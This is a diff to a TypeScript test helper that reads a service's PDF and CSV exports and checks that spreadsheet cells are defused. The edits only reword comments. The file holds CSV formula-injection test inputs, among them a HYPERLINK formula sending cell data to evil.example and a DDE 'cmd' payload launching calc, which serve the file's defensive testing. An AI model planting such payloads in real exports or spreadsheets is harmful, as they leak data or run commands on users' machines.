@@ -1,13 +1,13 @@
-// Readers of the documents that the service writes, by libraries that it does not use: PDF and CSV.
+// Readers for PDF and CSV based on libraries that the service does not use.
 import assert from 'node:assert/strict'
 import { parse } from 'csv-parse/sync'
 import { getDocument, OPS } from 'pdfjs-dist/legacy/build/pdf.mjs'
 import type { Answer } from './api.ts'
 
 type PdfPage = {
-  /** The lines from top to bottom, as they are seen from left to right. */
+  /** The lines from top to bottom, in visual order. */
   lines: string[]
-  /** Everything without blanks, for scripts whose characters stand in several fonts. */
+  /** The text without whitespace, for scripts that are split across fonts. */
   squeezed: string
   pictures: number
 }
@@ -36,7 +36,7 @@ export function squeezed(text: string): string {
   return text.replace(/\s/g, '')
 }
 
-// What stands on one height is one line, in whatever order it was drawn.
+// Text at the same height is one line, in whatever order it was drawn.
 function linesOf(pieces: Piece[]): string[] {
   const rows = new Map<number, Piece[]>()
   for (const piece of pieces) {
@@ -52,7 +52,7 @@ function linesOf(pieces: Piece[]): string[] {
 type Cell = string | number | boolean | null
 type Row = Record<string, Cell>
 
-/** Texts as people write them, or as somebody writes who wants them to be run; and the cells that they become. */
+/** Texts, some of which a spreadsheet would run as a formula, and the cells that they must become. */
 export const texts: [string, string][] = [
   ...quoted('=1+1', '=HYPERLINK("http://evil.example/?"&A1;"x")', '+49 30 1234567', '@SUM(A1:A9)', '-5'),
   ...quoted("-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'),
@@ -69,7 +69,7 @@ function same(...cells: string[]): [string, string][] {
   return cells.map((cell) => [cell, cell])
 }
 
-/** What the rows of a list look like in its export. */
+/** The records of a list as the rows of its export. */
 export function inCells(records: object[]): Row[] {
   const defused = (value: Cell) =>
     typeof value === 'string' && /^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value
@@ -87,7 +87,7 @@ export function assertDefused(rows: Row[], columns: string[]): void {
   }
 }
 
-/** The names and the rows; in cells without quotes lie null, numbers, booleans and times, in the others text. */
+/** Returns column names and rows. Unquoted cells are null, numbers, booleans and times; quoted ones are text. */
 export function readCsv({ status, headers, text, bytes }: Answer): { names: string[]; rows: Row[] } {
   assert.equal(status, 200, text)
   assert.equal(headers['content-type'], 'text/csv; charset=utf-8')
